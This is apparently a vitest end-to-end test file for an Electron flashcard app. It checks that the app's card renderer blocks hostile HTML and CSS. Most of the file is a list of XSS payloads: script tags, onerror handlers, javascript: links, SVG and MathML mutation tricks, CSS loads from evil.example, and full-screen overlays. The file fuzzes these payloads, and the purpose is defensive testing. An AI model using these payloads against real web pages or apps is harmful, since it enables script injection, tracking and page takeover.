import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { renderTemplate } from '../../electron/core/anki-template/render-template';
import { until } from './app';
import { showCard, startCards, stockCss } from './card-page';

/** Each would set `window.hacked`, or load something, if any of it got through. */
const hostile = [
  '<script>window.hacked=1</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<ScRiPt>window.hacked=1</sCrIpT>',
  '<scr<script>ipt>window.hacked=1</script>',
  '<img src=x onerror="window.hacked=1">',
  '<img src=x onerror=window.hacked=1//',
  '<img/src=x/onerror=window.hacked=1>',
  '<img """><script>window.hacked=1</script>">',
  '<IMG SRC=javascript:window.hacked=1>',
  '<img src="jav&#x09;ascript:window.hacked=1">',
  '<img srcset="https://evil.example/a.png 1x" src="x.png">',
  '<picture><source srcset="https://evil.example/a.png"><img src="x.png"></picture>',
  '<svg onload="window.hacked=1"></svg>',
  '<svg><script>window.hacked=1</script></svg>',
  '<svg><animate onbegin="window.hacked=1" attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:window.hacked=1"><text y=20>x</text></a></svg>',
  '<svg><a href="https://evil.example/"><text y=20>x</text></a></svg>',
  '<svg src=x.png><rect href="x.svg" width=9 height=9 /></svg><p src="x.png" href="y">x</p><source src="x.mp4">',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=window.hacked=1></svg>#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.hacked=1</script>"></iframe></foreignObject></svg>',
  '<svg><image href="https://evil.example/a.png"/></svg>',
  '<svg><set attributeName="href" to="javascript:window.hacked=1"/></svg>',
  '<svg fill="url(https://evil.example/a.svg#x)"><rect width=9 height=9 /></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
  '<math href="javascript:window.hacked=1">click</math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.hacked=1 src>">',
  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=window.hacked=1>"></textarea>',
  '<xmp><img title="</xmp><img src=x onerror=window.hacked=1>">',
  '<title><img title="</title><img src=x onerror=window.hacked=1>">',
  '<template><img src=x onerror=window.hacked=1></template>',
  '<iframe src="javascript:parent.hacked=1"></iframe>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<object data="data:text/html,<script>parent.hacked=1</script>"></object>',
  '<embed src="javascript:window.hacked=1">',
  '<base href="https://evil.example/"><img src="a.png">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel=import href="data:text/html,<script>window.hacked=1</script>">',
  '<form action="https://evil.example/"><input name=a autofocus onfocus="window.hacked=1"><button formaction="javascript:window.hacked=1">go</button></form>',
  '<input type=image src="https://evil.example/a.png">',
  '<isindex type=image src=x onerror=window.hacked=1>',
  '<body onload="window.hacked=1" background="https://evil.example/a.png">',
  '<table background="https://evil.example/a.png"><td background="javascript:window.hacked=1">x</table>',
  '<video poster="https://evil.example/a.png" src="x.mp4" onerror="window.hacked=1"></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<video><source onerror="window.hacked=1" src="https://evil.example/a.mp4"></video>',
  '<details open ontoggle="window.hacked=1"><summary>x</summary></details>',
  '<div style="background:url(https://evil.example/a.png)">x</div>',
  '<div style="background:\\75rl(https://evil.example/a.png)">x</div>',
  '<div style="--a:url(https://evil.example/a.png);background:var(--a)">x</div>',
  '<div style="width:expression(window.hacked=1);behavior:url(x.htc);-moz-binding:url(https://evil.example/x)">x</div>',
  '<div style="background-image:image-set(&quot;https://evil.example/a.png&quot; 1x)">x</div>',
  '<div style="position:fixed;inset:0;z-index:99999;background:red">cover</div>',
  '<style>* { overflow: visible !important }</style><div style="position:absolute;left:-900px;top:-900px;width:4000px;height:4000px;background:red">cover</div>',
  '<style>* { overflow: visible !important } p { transform: scale(200) }</style><p>cover</p>',
  '<style>@import "https://evil.example/x.css"; div{background:url(https://evil.example/b.png)}</style><div>x</div>',
  '<style>@font-face{font-family:f;src:url(https://evil.example/f.woff)} div{font-family:f}</style><div>x</div>',
  '<style>*{--x:\\75 rl(https://evil.example/c.png)} div{background:var(--x)} div::before{content:url(https://evil.example/d.png)}</style><div>x</div>',
  '<style></style><img src=x onerror=window.hacked=1></style>',
  '<style>:host{position:fixed!important;inset:0;contain:none!important} .html-card{display:none}</style>cover',
  '<a href="javascript:window.hacked=1">x</a>',
  '<a href="&#106;avascript:window.hacked=1">x</a>',
  '<a href=" javascript:window.hacked=1">x</a>',
  '<a href="data:text/html,<script>window.hacked=1</script>">x</a>',
  '<a href="file:///etc/passwd">x</a><img src="file:///etc/passwd">',
  '<a href="app://kubedeck/index.html">x</a><img src="app://kubedeck/index.html">',
  '<a href="https://good.example/" onclick="window.hacked=1" target=_top ping="https://evil.example/">x</a>',
  '<a id=location href="https://good.example/">x</a><img name=getElementById src=x.png>',
  '<marquee onstart="window.hacked=1">x</marquee>',
  '<dialog open oncancel="window.hacked=1">x</dialog>',
  '<keygen autofocus onfocus="window.hacked=1">',
  '<img src="data:text/html,<script>window.hacked=1</script>">',
  '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22parent.hacked=1%22><image href=%22https://evil.example/a.png%22/></svg>">',
  '<span data-sound="https://evil.example/a.mp3"></span><span data-sound="../../secret.mp3"></span><span data-sound="javascript:window.hacked=1"></span>',
  '<span data-maths="inline">\\href{javascript:window.hacked=1}{x}\\includegraphics{https://evil.example/a.png}\\htmlData{x=1}{y}</span>',
  '<div data-shape="rect" data-left="&quot;><img src=x onerror=window.hacked=1>"></div><div id="image-occlusion-container"><img src="x.png"></div>',
  '<slot name="typed" onslotchange="window.hacked=1"><img src=x onerror=window.hacked=1></slot>',
  '<!--><img src=x onerror=window.hacked=1>-->',
  '<![CDATA[<img src=x onerror=window.hacked=1>]]>',
  '<?xml version="1.0"?><img src=x onerror=window.hacked=1>',
  '<x onclick=window.hacked=1 onmouseover=window.hacked=1 style="display:block" tabindex=1 id=x>unknown</x>',
  '<p is="x-y" slot="z" part="w" contenteditable onbeforeinput="window.hacked=1">x</p>',
  '<div popover id=p onbeforetoggle=window.hacked=1>x</div><button popovertarget=p>y</button>',
];

describe('cards of strangers', () => {
  it('run nothing, load nothing and cover nothing', async () => {
    const { page, requests, complaints } = await startCards();
    for (const html of hostile) {
      for (const dark of [false, true]) await showCard(page, { html, css: stockCss, dark });
      expect(await page.evaluate(() => window.cardPage.leftovers()), html).toEqual([]);
      for (const part of await page.locator('.html-card :is(a, summary, .kd-sound)').all()) await part.click({ force: true });
      expect(await page.evaluate(() => 'hacked' in window), html).toBe(false);
    }
    // What the last ones began to load is answered before a picture that is asked for after it.
    await page.evaluate(
      () => new Promise((done) => document.body.appendChild(Object.assign(new Image(), { onerror: done, src: 'media/not-there.png' }))),
    );
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    expect(requests).toEqual([]);
    expect(page.url()).toBe('app://kubedeck/index.html');
    // Missing files are to be expected; a base address is refused by the policy even where the card is only looked through.
    expect(complaints.filter((each) => !/404|base-uri/.test(each))).toEqual([]);
  });

  it('do not get through cut up and mixed either', async () => {
    const { page, requests } = await startCards();
    const part = fc
      .tuple(fc.constantFrom(...hostile), fc.double({ min: 0, max: 1, noNaN: true }), fc.double({ min: 0, max: 1, noNaN: true }))
      .map(([html, from, to]) => html.slice(Math.min(from, to) * html.length, Math.max(from, to) * html.length));
    const mixed = fc.array(fc.oneof(part, fc.constantFrom(...hostile)), { minLength: 2, maxLength: 5 }).map((parts) => parts.join(''));
    const found = await page.evaluate(
      async (cards) => {
        const wrong: string[] = [];
        for (const html of cards) {
          await window.cardPage.show({ html });
          for (const what of window.cardPage.leftovers()) wrong.push(`${what} of ${html}`);
        }
        return wrong;
      },
      fc.sample(mixed, 2000),
    );
    expect(found).toEqual([]);
    expect(requests).toEqual([]);
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  });

  it('style only themselves', async () => {
    const { page, requests } = await startCards();
    const css = `
      @import url("https://evil.example/a.css");
      :root { --own: rgb(1, 2, 3); }
      html body .own { color: var(--own); }
      body { letter-spacing: 2px; min-height: 100vh }
      * { text-transform: uppercase }
      .escape { position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; background: red }
      .file { background: url("https://evil.example/x.png"), url(_own.png) }
      .own-file { background: url(_own.png) }
      .hidden { --u: url(https://evil.example/y.png); background: var(--u) }
      @media (min-width: 1px) { .media { list-style: url(//evil.example/z.png) } }
      @keyframes k { from { background: url(https://evil.example/k.png) } to { opacity: 1 } }
      ::slotted(*) { display: none } :host { display: none }
      broken { color: `;
    await showCard(page, { html: '<p class="own">own</p><p class="own-file">f</p><p class="escape">e</p>', css });
    const styles = await page.evaluate(() => {
      const root = document.querySelector('.html-card > div')?.shadowRoot;
      const of = (selector: string) => {
        const element = root?.querySelector(selector);
        return element ? getComputedStyle(element) : null;
      };
      return {
        own: of('.own')?.color,
        spacing: of('.card')?.letterSpacing,
        file: of('.own-file')?.backgroundImage,
        position: of('.escape')?.position,
        height: of('.card')?.minHeight,
        outside: getComputedStyle(document.body).textTransform,
        text: root?.adoptedStyleSheets.map((sheet) => [...sheet.cssRules].map((rule) => rule.cssText).join(' ')).join(' '),
      };
    });
    expect(styles).toMatchObject({
      own: 'rgb(1, 2, 3)',
      spacing: '2px',
      file: 'url("app://kubedeck/media/_own.png")',
      position: 'static',
      height: '0px',
      outside: 'none',
    });
    expect(styles.text).not.toContain('evil');
    expect(requests).toEqual([]);
  });

  it('bring their fonts, and take them along', async () => {
    const file = join(import.meta.dirname, '../../node_modules/@fontsource-variable/inter/files/inter-latin-wght-normal.woff2');
    const { page } = await startCards({ '_deck.woff2': readFileSync(file) });
    const families = () =>
      page.evaluate(() =>
        [...document.fonts].map(({ family, status }) => `${family} ${status}`).filter((each) => /^(?:deck|other)/.test(each)),
      );
    const css = `@font-face { font-family: "deck"; src: url("_deck.woff2") } @font-face { font-family: Inter Variable; src: url(_deck.woff2) }
      @font-face { font-family: other; src: url(https://evil.example/f.woff2) } .card { font-family: deck }`;
    await showCard(page, { html: 'in its own letters', css });
    await until(async () => (await families())[0] === 'deck loaded');
    expect(await families()).toEqual(['deck loaded']);
    await showCard(page, { html: 'plain' });
    expect(await families()).toEqual([]);
  });

  it('keep words that look like code', async () => {
    const { page } = await startCards();
    const words = 'javascript: the good parts; if a<b && c>d then kubectl -n <namespace> get po; x &lt;tag&gt; &amp;&amp; y';
    const card = renderTemplate({
      front: '{{Front}}',
      back: '',
      cloze: false,
      fields: [{ name: 'Front', value: words }],
      tags: [],
      deck: '',
      cardOrd: 0,
      notetypeName: '',
      templateName: '',
    });
    await showCard(page, { html: card.front });
    expect(await page.locator('.html-card .card').innerText()).toBe(
      'javascript: the good parts; if a<b && c>d then kubectl -n <namespace> get po; x <tag> && y',
    );
  });
});
